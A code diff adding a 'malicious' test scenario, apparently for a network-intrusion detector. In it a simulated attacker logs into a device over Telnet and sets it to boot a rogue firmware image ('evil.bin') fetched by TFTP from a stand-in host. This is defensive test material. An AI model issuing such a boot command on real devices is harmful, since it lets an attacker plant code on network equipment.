@@ -179,6 +179,16 @@ def bw07_without_a_server(wire: Wire) -> None:
     session.close()
 
 
+@scenario("BW07", "malicious", site=HQ, with_site=Expect((command(),)))
+def bw07_no_echo(wire: Wire) -> None:
+    """The client edits and shows its lines itself, so the device echoes none."""
+    session = Telnet(wire, ATTACKER, DEVICE, enter=b"\r\n")
+    session.login()
+    session.typed_blind("conf t")
+    session.typed_blind(f"boot system tftp://{ROGUE}/evil.bin")
+    session.close()
+
+
 @scenario("BW07", "benign", site=HQ, with_site=Expect(evidence=()))
 def bw07_only_looking(wire: Wire) -> None:
     """An operator shows, removes, comments and asks for help; the device's output lists such lines."""
